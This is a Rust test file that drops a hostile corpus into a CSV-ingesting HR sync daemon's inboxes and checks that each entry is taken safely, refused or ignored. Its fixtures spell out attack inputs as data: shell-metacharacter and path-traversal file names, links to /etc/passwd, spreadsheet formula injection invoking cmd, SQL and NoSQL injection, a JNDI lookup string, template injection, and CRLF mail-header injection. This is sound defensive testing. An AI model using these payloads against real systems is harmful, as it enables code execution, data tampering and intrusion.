//! A hostile corpus dropped into one running daemon's inboxes, one entry at
//! a time: what an attacker with write access to a drop folder, or a careless
//! HR export, may leave there. Names that would forge log lines or escape
//! the folder, links, pipes, sockets, folders, hard links, files too big,
//! bombs of delimiters, rows or quotes, broken encodings, formulas, control
//! and bidirectional characters, injections, absurd values, loops, files
//! replaced while settling, files seen before.
//!
//! For each entry: the daemon lives and answers `status`; the entry is
//! taken (its valid rows reach the Collaborator fake and the WBT files,
//! where no cell is left that a spreadsheet would run), refused (in
//! `rejected/` with a `.errors.txt` naming file, line, field and reason;
//! `status` saying why) or not taken (named in `status` with its reason),
//! each named exactly once in the log; what is refused or not taken touches
//! neither the store nor the targets; no raw control or reordering
//! character reaches the log, `status` or an `.errors.txt`. Hidden and
//! temporary names are the upload protocol: left alone, silently.
//! (`tests/corpus.rs` checks `validate`'s exact words on tests/data/; this
//! drops some of those files too, through the daemon.)

mod support;

use std::collections::{BTreeMap, BTreeSet};
use std::ffi::{OsStr, OsString};
use std::os::unix::ffi::OsStringExt;
use std::path::{Path, PathBuf};
use std::time::Duration;

use serde_json::Value;

use rostersync::ingest::record::RecordKind;
use support::fakes::collaborator::Fake;
use support::*;

const USERS: &str = "inbox";
const ORGS: &str = "orgs-inbox";
/// A source that settles for 3 s: time to replace a file while it settles.
const SLOW: &str = "slow-inbox";

const HEADER: &str = "user_extid;user_lname;user_fname;user_login;user_email;user_disable";
const ORGS_HEADER: &str = "org_label;org_extid;org_parentextid";

/// What becomes of an entry.
#[derive(Debug, Clone, Copy)]
enum Expect {
    /// Archived; these ext ids reach both targets (none: nothing is sent).
    Taken(&'static [&'static str]),
    /// In `rejected/`; the first problem of its `.errors.txt` is at this
    /// line and column and starts with this message.
    Rejected(u64, u64, &'static str),
    /// Not taken, named in `status` with a reason that starts with this.
    NotTaken(&'static str),
    /// The same bytes as the source's last file: archived as a duplicate.
    Duplicate,
    /// A hidden or temporary name: left where it is, named nowhere.
    Skipped,
}
use Expect::*;

/// One entry: what it is, in which inbox, how it is made (its name in the
/// inbox is returned), what becomes of it.
struct Case {
    what: &'static str,
    inbox: &'static str,
    make: fn(&Inbox) -> OsString,
    expect: Expect,
}

const fn case(
    what: &'static str,
    inbox: &'static str,
    make: fn(&Inbox) -> OsString,
    expect: Expect,
) -> Case {
    Case {
        what,
        inbox,
        make,
        expect,
    }
}

/// A users row whose login and address derive from its ext id.
fn row(id: &str) -> String {
    let login = id.to_lowercase();
    format!("{id};Name{id};First{id};{login};{login}@x.fr;0")
}

fn users(rows: &[String]) -> Vec<u8> {
    csv(HEADER, rows).into_bytes()
}

fn one(id: &str) -> Vec<u8> {
    users(&[row(id)])
}

fn with_header(header: &str, rows: &[String]) -> Vec<u8> {
    csv(header, rows).into_bytes()
}

fn data(name: &str) -> Vec<u8> {
    std::fs::read(
        Path::new(env!("CARGO_MANIFEST_DIR"))
            .join("tests/data")
            .join(name),
    )
    .unwrap()
}

fn utf16(text: &str, big_endian: bool, bom: bool) -> Vec<u8> {
    let mut out = Vec::new();
    if bom {
        out.extend_from_slice(if big_endian {
            &[0xFE, 0xFF]
        } else {
            &[0xFF, 0xFE]
        });
    }
    for unit in text.encode_utf16() {
        let bytes = if big_endian {
            unit.to_be_bytes()
        } else {
            unit.to_le_bytes()
        };
        out.extend_from_slice(&bytes);
    }
    out
}

/// Bytes from a fixed seed (xorshift): garbage, the same on every run.
fn garbage(len: usize) -> Vec<u8> {
    let mut x: u64 = 0x9E37_79B9_7F4A_7C15;
    (0..len)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            (x >> 24) as u8
        })
        .collect()
}

/// An inbox and a folder outside it, as the cases write them.
struct Inbox {
    dir: PathBuf,
    outside: PathBuf,
    /// The harness's folder: the config, the state, the logs.
    root: PathBuf,
}

impl Inbox {
    fn at(&self, name: impl AsRef<OsStr>) -> PathBuf {
        self.dir.join(name.as_ref())
    }

    /// Drops a file as a careful exporter does: written under a hidden
    /// name, then renamed (so that even a 255-byte name can be dropped).
    fn drop(&self, name: impl AsRef<OsStr>, bytes: &[u8]) -> OsString {
        let hidden = self.dir.join(".incoming.tmp");
        std::fs::write(&hidden, bytes).unwrap();
        std::fs::rename(&hidden, self.at(&name)).unwrap();
        name.as_ref().to_owned()
    }

    /// Writes a file in place, under its final name.
    fn write(&self, name: &str, bytes: &[u8]) -> OsString {
        std::fs::write(self.at(name), bytes).unwrap();
        name.into()
    }

    fn link(&self, name: &str, to: impl AsRef<Path>) -> OsString {
        std::os::unix::fs::symlink(to, self.at(name)).unwrap();
        name.into()
    }

    fn fifo(&self, name: &str) -> OsString {
        rustix::fs::mknodat(
            rustix::fs::CWD,
            self.at(name),
            rustix::fs::FileType::Fifo,
            rustix::fs::Mode::from_raw_mode(0o600),
            0,
        )
        .unwrap();
        name.into()
    }
}

fn bytes_name(bytes: &[u8]) -> OsString {
    OsString::from_vec(bytes.to_vec())
}

fn outside_link(x: &Inbox) -> OsString {
    std::fs::write(x.outside.join("export.csv"), one("X04")).unwrap();
    x.link("link-to-export.csv", x.outside.join("export.csv"))
}

fn socket(x: &Inbox) -> OsString {
    drop(std::os::unix::net::UnixListener::bind(x.at("socket.csv")).unwrap());
    "socket.csv".into()
}

fn folder(x: &Inbox) -> OsString {
    std::fs::create_dir(x.at("folder.csv")).unwrap();
    std::fs::write(x.at("folder.csv").join("inside.csv"), one("X05")).unwrap();
    "folder.csv".into()
}

fn hard_link(x: &Inbox) -> OsString {
    std::fs::write(x.outside.join("hard.csv"), one("H13")).unwrap();
    std::fs::hard_link(x.outside.join("hard.csv"), x.at("hardlink.csv")).unwrap();
    "hardlink.csv".into()
}

fn many_columns(x: &Inbox) -> OsString {
    let unknown: String = (0..100_000).map(|i| format!(";c{i}")).collect();
    let values = ";v".repeat(100_000);
    let file = with_header(
        &format!("{HEADER}{unknown}"),
        &[format!("{}{values}", row("H14"))],
    );
    x.drop("columns.csv", &file)
}

fn truncated(x: &Inbox) -> OsString {
    let mut bytes = one("X11");
    bytes.extend_from_slice(b"X12;Dupr\xc3");
    x.drop("truncated.csv", &bytes)
}

fn glued(x: &Inbox) -> OsString {
    let mut bytes = one("X15");
    bytes.extend_from_slice("\u{feff}".as_bytes());
    bytes.extend_from_slice(&one("X16"));
    x.drop("glued.csv", &bytes)
}

fn sep_escape(x: &Inbox) -> OsString {
    let mut bytes = b"sep=\x1b\n".to_vec();
    bytes.extend_from_slice(&one("X19"));
    x.drop("sep-escape.csv", &bytes)
}

fn managers_file() -> Vec<u8> {
    let header = format!("{HEADER};user_manager_extid");
    with_header(
        &header,
        &[format!("{};S03", row("S02")), format!("{};S02", row("S03"))],
    )
}

fn swapped(x: &Inbox) -> OsString {
    x.drop("swapped.csv", &one("X28"));
    std::thread::sleep(Duration::from_millis(500));
    x.drop("swapped.csv", &one("H19"))
}

fn growing(x: &Inbox) -> OsString {
    use std::io::Write;
    let mut file = std::fs::File::create(x.at("growing.csv")).unwrap();
    file.write_all(format!("{HEADER}\nH20;Nam").as_bytes())
        .unwrap();
    file.sync_all().unwrap();
    std::thread::sleep(Duration::from_millis(300));
    file.write_all(b"eH20;FirstH20;h20;h20@x.fr;0\n").unwrap();
    "growing.csv".into()
}

const FORMULAS: &[&str] = &[
    "F01;=HYPERLINK(\"http://evil.example\",\"click\");+cmd|' /C calc'!A0;f01;f01@x.fr;0",
    "F02;@SUM(A1:A9);-2+3+cmd|' /C calc'!A0;f02;f02@x.fr;0",
    "F03;\"\t=1+1\";\"\r=2+2\";f03;f03@x.fr;0",
    "F04;-;+33 1 23 45 67 89;f04;f04@x.fr;0",
];

const META: &[&str] = &[
    "M01;\"Robert'); DROP TABLE users;--\";</user><admin x=\"1\">;m01;m01@x.fr;0",
    "M02;\"{\"\"$ne\"\": null}\";\\u0000 \\\" ${jndi:ldap://x.example/a} {{7*7}};m02;m02@x.fr;0",
];

fn rows(lines: &[&str]) -> Vec<u8> {
    users(&lines.iter().map(|l| l.to_string()).collect::<Vec<_>>())
}

fn orgs(lines: &[&str]) -> Vec<u8> {
    with_header(
        ORGS_HEADER,
        &lines.iter().map(|l| l.to_string()).collect::<Vec<_>>(),
    )
}

fn extra(column: &str, id: &str, value: &str) -> Vec<u8> {
    with_header(
        &format!("{HEADER};{column}"),
        &[format!("{};{value}", row(id))],
    )
}

/// The corpus, one line per entry.
#[rustfmt::skip]
const CASES: &[Case] = &[
    // Names.
    case("a name holding a line break and a forged log line", USERS, |x| x.drop("n1\n2026-11-21T10:00:00Z  INFO rostersync: file processed.csv", &one("H01")), Taken(&["H01"])),
    case("a name holding ANSI escape codes", USERS, |x| x.drop("\x1b[2J\x1b[31mred\x1b[0m.csv", &one("H02")), Taken(&["H02"])),
    case("a name holding a carriage return, a tab and DEL", USERS, |x| x.drop("a\rb\tc\x7fd.csv", &one("H03")), Taken(&["H03"])),
    case("a name reversed by a right-to-left override", USERS, |x| x.drop("users\u{202e}vsc.exe", &one("H04")), Taken(&["H04"])),
    case("a name holding a line separator and a zero-width space", USERS, |x| x.drop("a\u{2028}b\u{200b}.csv", &one("H05")), Taken(&["H05"])),
    case("a name that is a spreadsheet formula", USERS, |x| x.drop("=HYPERLINK(\"evil.example\",\"x\").csv", &one("H06")), Taken(&["H06"])),
    case("a name that climbs folders, Windows style", USERS, |x| x.drop("x\\..\\..\\etc\\passwd.csv", &one("H07")), Taken(&["H07"])),
    case("a name that climbs folders, hidden by its dot", USERS, |x| x.drop("..\\..\\etc\\passwd.csv", &one("X29")), Skipped),
    case("a name of shell meta characters", USERS, |x| x.drop("$(reboot);`id`|*?[a].csv", &one("H08")), Taken(&["H08"])),
    case("a name that looks like an option", USERS, |x| x.drop("--delete-all.csv", &one("H09")), Taken(&["H09"])),
    case("a 255-byte name, the longest a file system takes", USERS, |x| x.drop(format!("{}x.csv", "é".repeat(125)), &one("H10")), Taken(&["H10"])),
    case("a name in Latin-1 bytes, not UTF-8", USERS, |x| x.drop(bytes_name(b"Employ\xe9s \xff\xfe.csv"), &one("H11")), Taken(&["H11"])),
    case("a name of a truncated UTF-8 sequence", USERS, |x| x.drop(bytes_name(b"users\xc3.csv"), &one("H12")), Taken(&["H12"])),
    case("a hidden name", USERS, |x| x.drop(".users.csv", &one("X01")), Skipped),
    case("an upload still under its temporary name", USERS, |x| x.write("users.csv.part", &one("X02")), Skipped),
    case("an Office lock file", USERS, |x| x.write("~$users.csv", &one("X03")), Skipped),
    case("a marker without its file", USERS, |x| x.write("gone.csv.done", b""), Skipped),
    // Entries that are not files.
    case("a link to a valid export outside the inbox", USERS, outside_link, NotTaken("a symbolic link")),
    case("a link to /etc/passwd", USERS, |x| x.link("passwd.csv", "/etc/passwd"), NotTaken("a symbolic link")),
    case("a link to the daemon's own state", USERS, |x| x.link("state.csv", x.root.join("state/db/conf")), NotTaken("a symbolic link")),
    case("a dangling link", USERS, |x| x.link("dangling.csv", "/nowhere/at/all.csv"), NotTaken("a symbolic link")),
    case("a link to itself", USERS, |x| x.link("loop.csv", "loop.csv"), NotTaken("a symbolic link")),
    case("a link to a folder", USERS, |x| x.link("root.csv", "/"), NotTaken("a symbolic link")),
    case("a named pipe", USERS, |x| x.fifo("pipe.csv"), NotTaken("not a regular file")),
    case("a socket", USERS, socket, NotTaken("not a regular file")),
    case("a folder named like an export, an export inside", USERS, folder, NotTaken("a folder")),
    case("a hard link to a file outside the inbox", USERS, hard_link, Taken(&["H13"])),
    // Sizes and shapes.
    case("a zero-byte file", USERS, |x| x.drop("zero.csv", b""), Rejected(1, 1, "the file is empty")),
    case("a file larger than max_file_size", USERS, |x| x.drop("big.csv", &vec![b'x'; 12 << 20]), Rejected(1, 1, "the file is 12582912 bytes, more than max_file_size allows (11 MiB)")),
    case("a 10 MB single line", USERS, |x| x.drop("line.csv", &extra("user_city", "X06", &"x".repeat(10 << 20))), Rejected(2, 7, "user_city is 10485760 characters long, at most 255 are allowed")),
    case("a million delimiters on one row", USERS, |x| x.drop("delimiters.csv", &users(&[format!("X07{}", ";".repeat(1_000_000))])), Rejected(2, 7, "the row has 1000001 fields, the header has 6")),
    case("a bomb of a million empty rows", USERS, |x| x.drop("empty-rows.csv", &users(&vec![String::new(); 1_000_000])), Rejected(1, 1, "the file has a header but no rows")),
    case("a bomb of rows of delimiters only", USERS, |x| x.drop("semicolons.csv", &users(&vec![";;;;;".to_string(); 200_000])), Rejected(1, 1, "the file has a header but no rows")),
    case("fifty thousand invalid rows", USERS, |x| x.drop("invalid-rows.csv", &users(&(0..50_000).map(|n| format!("X30-{n};A;B;x30-{n};x30-{n}@x.fr;yes")).collect::<Vec<_>>())), Rejected(2, 6, "user_disable \"yes\" is not 0 or 1")),
    case("a field of 100,000 quotes", USERS, |x| x.drop("quotes.csv", &users(&[format!("X08;\"{}\";First;x08;x08@x.fr;0", "\"\"".repeat(50_000))])), Rejected(2, 2, "user_lname is 50000 characters long")),
    case("a quote left open to the end", USERS, |x| x.drop("open-quote.csv", &users(&["X09;\"Dupont;Jean;x09;x09@x.fr;0".into(), row("X10")])), Rejected(2, 3, "the row has 2 fields, the header has 6 (it runs over several lines")),
    case("100,000 columns, all unknown", USERS, many_columns, Taken(&["H14"])),
    case("rows longer and shorter than the header", USERS, |x| x.drop("short-long.csv", &data("short_long_rows.csv")), Rejected(3, 4, "the row has 3 fields, the header has 4")),
    case("binary garbage", USERS, |x| x.drop("garbage.csv", &garbage(64 << 10)), Rejected(1, 1, "bytes 0xE5 are not valid UTF-8")),
    case("an Excel workbook", USERS, |x| x.drop("workbook.csv", &data("binary_garbage.xlsx")), Rejected(1, 1, "this is a zip archive")),
    // Encodings.
    case("a truncated UTF-8 sequence", USERS, truncated, Rejected(3, 2, "bytes 0xC3 in user_lname are not valid UTF-8")),
    case("Windows-1252 read as UTF-8", USERS, |x| x.drop("cp1252.csv", &data("excel_windows1252.csv")), Rejected(2, 2, "bytes 0xE8 in user_lname are not valid UTF-8")),
    case("UTF-16LE with its byte order mark", USERS, |x| x.drop("utf16le-bom.csv", &utf16(&csv(HEADER, &[row("H15")]), false, true)), Taken(&["H15"])),
    case("UTF-16BE with its byte order mark", USERS, |x| x.drop("utf16be-bom.csv", &utf16(&csv(HEADER, &[row("H16")]), true, true)), Taken(&["H16"])),
    case("UTF-16LE without a byte order mark", USERS, |x| x.drop("utf16le.csv", &utf16(&csv(HEADER, &[row("X13")]), false, false)), Rejected(1, 1, "the file holds NUL bytes: it looks like UTF-16 text without a byte order mark; set this source's encoding = \"utf-16le\"")),
    case("NUL bytes in a UTF-8 file", USERS, |x| x.drop("nul.csv", &rows(&["X14;Du\0pont;Jean;x14;x14@x.fr;0"])), Rejected(2, 1, "the file holds NUL bytes")),
    case("a byte order mark in the middle: two exports glued", USERS, glued, Rejected(3, 1, "a byte order mark (U+FEFF) in the middle of the file")),
    case("a byte order mark inside the header", USERS, |x| x.drop("header-bom.csv", &with_header(&HEADER.replace(";user_lname", ";\u{feff}user_lname"), &[row("X17")])), Rejected(1, 1, "a byte order mark (U+FEFF) in the middle of the file")),
    // Headers.
    case("the header in capitals", USERS, |x| x.drop("upper.csv", &with_header(&HEADER.to_uppercase(), &[row("H17")])), Taken(&["H17"])),
    case("a column twice in the header", USERS, |x| x.drop("twice.csv", &extra("user_login", "X18", "x18b")), Rejected(1, 7, "column \"user_login\" appears twice (columns 4 and 7)")),
    case("an escape code as a column name", USERS, |x| x.drop("header-escape.csv", &extra("\x1b[31mevil", "H18", "z")), Taken(&["H18"])),
    case("an escape code as the sep= delimiter", USERS, sep_escape, Rejected(2, 1, "required column user_fname is missing (the header has a single column; delimiter '\\u{1b}'")),
    // Values.
    case("formulas in names and labels, behind a tab and a CR too", USERS, |x| x.drop("formulas.csv", &rows(FORMULAS)), Taken(&["F01", "F02", "F03", "F04"])),
    case("escape codes and C1 controls in fields", USERS, |x| x.drop("control.csv", &rows(&["X20;Du\x1b[2Kpont;Jean;x20;x20@x.fr;0", "X21;Ne\u{85}l;Jean;x21;x21@x.fr;0"])), Rejected(2, 2, "user_lname \"Du\\u{1b}[2Kpont\" contains the control character U+001B")),
    case("a right-to-left override in a name", USERS, |x| x.drop("bidi.csv", &rows(&["X22;Dupont\u{202e}gnp.exe;Jean;x22;x22@x.fr;0"])), Rejected(2, 2, "user_lname \"Dupont\\u{202e}gnp.exe\" contains the bidirectional control character U+202E")),
    case("an e-mail address with a header injected", USERS, |x| x.drop("crlf-mail.csv", &rows(&["X23;Dupont;Jean;x23;\"x23@x.fr\r\nBcc: all@x.fr\";0"])), Rejected(2, 5, "user_email \"x23@x.fr\\r\\nBcc: all@x.fr\" contains the control character U+000D")),
    case("a line break in a login", USERS, |x| x.drop("login-break.csv", &rows(&["X24;Dupont;Jean;\"x24\nroot\";x24@x.fr;0"])), Rejected(2, 4, "user_login \"x24\\nroot\" contains the control character U+000A")),
    case("SQL, JSON, XML and template meta characters", USERS, |x| x.drop("meta.csv", &rows(META)), Taken(&["M01", "M02"])),
    case("a login of 5,000 characters", USERS, |x| x.drop("long-login.csv", &rows(&[&format!("X25;Dupont;Jean;{};x25@x.fr;0", "l".repeat(5000))])), Rejected(2, 4, "user_login is 5000 characters long, at most 120 are allowed")),
    case("a date like 9999/99/99", USERS, |x| x.drop("date.csv", &extra("birth_date", "X26", "9999/99/99")), Rejected(2, 7, "birth_date \"9999/99/99\" is not a real date: there is no month 99")),
    case("a disable flag that is a word", USERS, |x| x.drop("flag.csv", &rows(&["X27;Dupont;Jean;x27;x27@x.fr;yes"])), Rejected(2, 6, "user_disable \"yes\" is not 0 or 1")),
    case("the same ext id and login twice", USERS, |x| x.drop("duplicates.csv", &data("duplicate_keys.csv")), Rejected(2, 1, "user_extid \"E900\" is also on line 4")),
    case("a person whose manager is themself", USERS, |x| x.drop("self-manager.csv", &extra("user_manager_extid", "S01", "S01")), Taken(&["S01"])),
    case("two people who manage each other", USERS, |x| x.drop("manager-loop.csv", &managers_file()), Taken(&["S02", "S03"])),
    // Files seen before, files that change.
    case("the same bytes as the file archived last", USERS, |x| x.drop("again.csv", &managers_file()), Duplicate),
    case("the same bytes as a file archived earlier", USERS, |x| x.drop("older-again.csv", &one("H13")), Taken(&[])),
    case("a file replaced while it settles", SLOW, swapped, Taken(&["H19"])),
    case("a file still written while it settles", SLOW, growing, Taken(&["H20"])),
    // Organisations.
    case("organisations in a loop, one under an unknown parent", ORGS, |x| x.drop("org-loop.csv", &data("org_cycle.csv")), Rejected(3, 3, "org_parentextid makes a loop")),
    case("an organisation that is its own parent", ORGS, |x| x.drop("org-self.csv", &orgs(&["Self;XO1;XO1"])), Rejected(2, 3, "org_parentextid makes a loop: \"XO1\" → \"XO1\"")),
    case("organisation labels that are formulas", ORGS, |x| x.drop("org-formulas.csv", &orgs(&["\"=SUM(1,2)\";O01;", "@cmd;O02;O01", "-1+cmd;O03;O02"])), Taken(&["O01", "O02", "O03"])),
];

/// `name` as the daemon shows it (log, status, reports, `.errors.txt`).
fn shown(name: &OsStr) -> String {
    match name.to_str() {
        Some(text) => rostersync::escape::text(text).into_owned(),
        None => rostersync::escape::os(name),
    }
}

/// No raw control or reordering character, the line break aside.
fn assert_clean(what: &str, text: &str) {
    let bad = text.chars().find(|&c| {
        (c.is_control() && c != '\n')
            || matches!(c, '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{feff}')
    });
    assert!(
        bad.is_none(),
        "{what} holds the raw character {bad:?}:\n{text}"
    );
}

fn harness() -> Harness<Fake> {
    let source = |name: &str, kind: &str, inbox: &str, settle: &str| {
        Source::new(name, kind, inbox)
            .set("mode", "delta")
            .set("settle", settle)
            .set("max_file_size", "11MiB")
            .targets(&["lms", "out"])
    };
    Harness::builder()
        .fake(Fake::start(TOKEN))
        .daemon("grace", "1s")
        .daemon("rescan", "200ms")
        .safety("max_block_percent", 100.0)
        .safety("max_shrink_percent", 100.0)
        .source(source("users", "users", USERS, "200ms"))
        .source(source("orgs", "orgs", ORGS, "200ms"))
        .source(source("slow", "users", SLOW, "3s"))
        .target(
            Target::collaborator("lms")
                .token_env("LMS_TOKEN", TOKEN)
                .fast(),
        )
        .target(Target::wbt_file("out", "wbt-out"))
        .build()
}

fn source_of(inbox: &str) -> &'static str {
    match inbox {
        USERS => "users",
        ORGS => "orgs",
        _ => "slow",
    }
}

/// Names in a folder (files only), as the OS gives them.
fn entries(dir: &Path) -> BTreeSet<OsString> {
    std::fs::read_dir(dir)
        .map(|entries| entries.flatten().map(|e| e.file_name()).collect())
        .unwrap_or_default()
}

/// Every row of every WBT file written, by ext id (the last one written).
fn wbt_rows(h: &Harness<Fake>, kind: RecordKind) -> BTreeMap<String, BTreeMap<String, String>> {
    let (prefix, key) = match kind {
        RecordKind::Users => ("users_", "user_extid"),
        RecordKind::Orgs => ("orgs_", "org_extid"),
    };
    let mut rows = BTreeMap::new();
    for name in files(&h.path("wbt-out")) {
        if !name.starts_with(prefix) || !name.ends_with(".csv") {
            continue;
        }
        let bytes = std::fs::read(h.path("wbt-out").join(&name)).unwrap();
        let text = String::from_utf8(bytes).unwrap();
        let text = text.strip_prefix('\u{feff}').unwrap_or(&text);
        let mut reader = ::csv::ReaderBuilder::new()
            .delimiter(b';')
            .from_reader(text.as_bytes());
        let headers = reader.headers().unwrap().clone();
        for record in reader.records() {
            let record = record.unwrap();
            let row: BTreeMap<String, String> = headers
                .iter()
                .zip(record.iter())
                .map(|(h, v)| (h.to_string(), v.to_string()))
                .collect();
            rows.insert(row[key].clone(), row);
        }
    }
    rows
}

/// What the portal and the WBT files hold, and how many requests came.
#[derive(Debug, PartialEq)]
struct Targets {
    requests: u64,
    users: BTreeSet<String>,
    orgs: BTreeSet<String>,
    wbt_files: Vec<String>,
}

fn targets(h: &Harness<Fake>) -> Targets {
    Targets {
        requests: h.fake.requests(),
        users: h.fake.with(|p| p.users.keys().cloned().collect()),
        orgs: h.fake.with(|p| p.orgs.keys().cloned().collect()),
        wbt_files: files(&h.path("wbt-out")),
    }
}

fn status(h: &Harness<Fake>) -> Value {
    let (code, out, err) = h.run(&["status", "--json"]);
    assert_eq!(code, 0, "status does not answer: {out}{err}");
    serde_json::from_str(&out).unwrap()
}

/// The files of a folder that are new since `before`, sorted.
fn new_files(dir: &Path, before: &BTreeSet<OsString>) -> Vec<OsString> {
    entries(dir).difference(before).cloned().collect()
}

#[test]
fn a_hostile_corpus_leaves_the_daemon_standing_and_the_state_clean() {
    let h = harness();
    std::fs::create_dir_all(h.path("outside")).unwrap();
    let mut daemon = h.start();
    let counts = CASES.iter().fold(BTreeMap::new(), |mut counts, c| {
        let kind = match c.expect {
            Taken(_) => "taken",
            Rejected(..) => "refused",
            NotTaken(_) => "not taken",
            Duplicate => "duplicate",
            Skipped => "skipped",
        };
        *counts.entry(kind).or_insert(0) += 1;
        counts
    });
    println!("hostile corpus: {} cases {counts:?}", CASES.len());
    assert!(CASES.len() >= 40);

    let mut taken_users: BTreeSet<String> = BTreeSet::new();
    let mut taken_orgs: BTreeSet<String> = BTreeSet::new();
    let mut named: Vec<(String, Expect, OsString)> = Vec::new();
    for case in CASES {
        let inbox = Inbox {
            dir: h.path(case.inbox),
            outside: h.path("outside"),
            root: h.root().to_path_buf(),
        };
        let archive = inbox.dir.join("archive");
        let rejected = inbox.dir.join("rejected");
        let (archived_before, rejected_before) = (entries(&archive), entries(&rejected));
        let archived_count = h.archived(case.inbox).len();
        let before = targets(&h);
        let name = (case.make)(&inbox);
        let shown = shown(&name);
        let what = format!("{} ({shown})", case.what);
        let source = source_of(case.inbox);
        let timeout = Duration::from_secs(60);
        match case.expect {
            Taken(_) | Duplicate => wait_until(
                timeout,
                || {
                    h.complete(case.inbox)
                        .is_some_and(|a| a.len() > archived_count)
                },
                || format!("{what}: never archived\n{}", daemon.log()),
            ),
            Rejected(..) => wait_until(
                timeout,
                // Moved, and then said in status (written a moment after).
                || {
                    entries(&rejected).len() >= rejected_before.len() + 2
                        && status(&h)["sources"][source]["last_file"] == shown.as_str()
                },
                || format!("{what}: never rejected\n{}", daemon.log()),
            ),
            NotTaken(_) => wait_until(
                timeout,
                || {
                    status(&h)["sources"][source]["ignored"]
                        .as_array()
                        .is_some_and(|l| l.iter().any(|e| e["name"] == shown.as_str()))
                },
                || format!("{what}: never named in status\n{}", daemon.log()),
            ),
            Skipped => {}
        }
        assert!(
            daemon.child.try_wait().unwrap().is_none(),
            "{what}: the daemon died\n{}",
            daemon.log()
        );
        let status = status(&h);
        let (_, text_status, _) = h.run(&["status"]);
        assert_clean(&format!("status after {what}"), &text_status);
        let last = &status["sources"][source];
        match case.expect {
            Taken(ids) => {
                assert_eq!(last["last_file"], shown.as_str(), "{what}: {status}");
                assert_eq!(last["outcome"], "archived", "{what}: {status}");
                let archived = new_files(&archive, &archived_before);
                let file = archived
                    .iter()
                    .find(|n| !n.to_string_lossy().ends_with(".json"))
                    .unwrap();
                let report = report(&archive.join(file));
                // Reports keep a name that is not UTF-8 with its bytes replaced.
                let lossy = rostersync::escape::text(&name.to_string_lossy()).into_owned();
                assert_eq!(report["file"], lossy.as_str(), "{what}");
                let after = targets(&h);
                let kind = if case.inbox == ORGS {
                    RecordKind::Orgs
                } else {
                    RecordKind::Users
                };
                let (at_portal, in_files) = match kind {
                    RecordKind::Users => (&after.users, wbt_rows(&h, kind)),
                    RecordKind::Orgs => (&after.orgs, wbt_rows(&h, kind)),
                };
                for id in ids {
                    assert!(at_portal.contains(*id), "{what}: {id} not at the portal");
                    assert!(in_files.contains_key(*id), "{what}: {id} in no WBT file");
                }
                if ids.is_empty() {
                    assert_eq!(after, before, "{what}: nothing to send");
                }
                match kind {
                    RecordKind::Users => taken_users.extend(ids.iter().map(|s| s.to_string())),
                    RecordKind::Orgs => taken_orgs.extend(ids.iter().map(|s| s.to_string())),
                }
            }
            Duplicate => {
                assert_eq!(last["outcome"], "duplicate", "{what}: {status}");
                assert_eq!(targets(&h), before, "{what}: nothing sent");
            }
            Rejected(line, column, says) => {
                assert_eq!(last["last_file"], shown.as_str(), "{what}: {status}");
                assert_eq!(last["outcome"], "rejected", "{what}: {status}");
                let new = new_files(&rejected, &rejected_before);
                let errors = new
                    .iter()
                    .find(|n| n.to_string_lossy().ends_with(".errors.txt"))
                    .unwrap_or_else(|| panic!("{what}: no .errors.txt in {new:?}"));
                let errors = std::fs::read(rejected.join(errors)).unwrap();
                assert!(
                    errors.len() < 4 << 20,
                    "{what}: {} bytes of errors",
                    errors.len()
                );
                let errors = String::from_utf8(errors).unwrap();
                assert_clean(&format!("the .errors.txt of {what}"), &errors);
                let first = errors.lines().next().unwrap();
                let expected = format!("{shown}:{line}:{column}: {says}");
                assert!(
                    first.starts_with(&expected),
                    "{what}:\n{first}\nnot\n{expected}"
                );
                let verdict = errors.lines().last().unwrap();
                let reason = last["reason"]
                    .as_str()
                    .unwrap_or_else(|| panic!("{what}: {status}"));
                assert_eq!(verdict, format!("{shown}: refused: {reason}"), "{what}");
                assert_eq!(targets(&h), before, "{what}: the targets were touched");
            }
            NotTaken(reason) => {
                let ignored = last["ignored"].as_array().unwrap();
                let entry = ignored
                    .iter()
                    .find(|e| e["name"] == shown.as_str())
                    .unwrap();
                let given = entry["reason"].as_str().unwrap();
                assert!(given.starts_with(reason), "{what}: {given}");
                assert!(
                    inbox.at(&name).symlink_metadata().is_ok(),
                    "{what}: left where it is"
                );
                assert_eq!(targets(&h), before, "{what}: the targets were touched");
            }
            Skipped => {
                assert!(inbox.at(&name).exists(), "{what}: left where it is");
                assert_eq!(targets(&h), before, "{what}: the targets were touched");
            }
        }
        named.push((shown, case.expect, name));
    }

    let (stopped, log) = daemon.stop();
    assert!(stopped.success(), "{log}");
    // The log files, as a log reader parses them.
    let mut logged = String::new();
    for name in files(&h.path("log")) {
        if name.ends_with(".log") {
            let bytes = std::fs::read(h.path("log").join(name)).unwrap();
            logged.push_str(&String::from_utf8(bytes).expect("the log is UTF-8"));
        }
    }
    assert_clean("the log", &logged);
    for (shown, expect, name) in &named {
        let processed = logged
            .lines()
            .filter(|l| {
                l.contains("file processed") && l.contains(&format!(" file={shown} outcome="))
            })
            .count();
        let not_taken = logged
            .lines()
            .filter(|l| {
                l.contains("an inbox entry that is not taken")
                    && l.contains(&format!("/{shown} reason="))
            })
            .count();
        let once = match expect {
            Taken(_) | Rejected(..) | Duplicate => (processed, not_taken) == (1, 0),
            NotTaken(_) => (processed, not_taken) == (0, 1),
            Skipped => {
                let anywhere = [format!("={shown} "), format!("/{shown} ")];
                (processed, not_taken) == (0, 0) && !anywhere.iter().any(|n| logged.contains(n))
            }
        };
        assert!(
            once,
            "{shown:?} ({name:?}): {processed} processed, {not_taken} not taken:\n{logged}"
        );
    }

    // What the targets and the store hold: the rows of the files taken, no other.
    let portal_users: BTreeSet<String> = h.fake.with(|p| p.users.keys().cloned().collect());
    assert_eq!(portal_users, taken_users);
    let portal_orgs: BTreeSet<String> = h.fake.with(|p| p.orgs.keys().cloned().collect());
    assert_eq!(portal_orgs, taken_orgs);
    let wbt_users = wbt_rows(&h, RecordKind::Users);
    assert_eq!(
        wbt_users.keys().cloned().collect::<BTreeSet<_>>(),
        taken_users
    );
    let wbt_orgs = wbt_rows(&h, RecordKind::Orgs);
    assert_eq!(
        wbt_orgs.keys().cloned().collect::<BTreeSet<_>>(),
        taken_orgs
    );
    let store = open_store(&h.path("state/db"));
    for target in ["lms", "out"] {
        for (kind, taken) in [
            (RecordKind::Users, &taken_users),
            (RecordKind::Orgs, &taken_orgs),
        ] {
            let keys: BTreeSet<String> =
                store.entries(target, kind).map(|e| e.unwrap().0).collect();
            assert_eq!(&keys, taken, "{target} {kind:?} in the store");
        }
    }

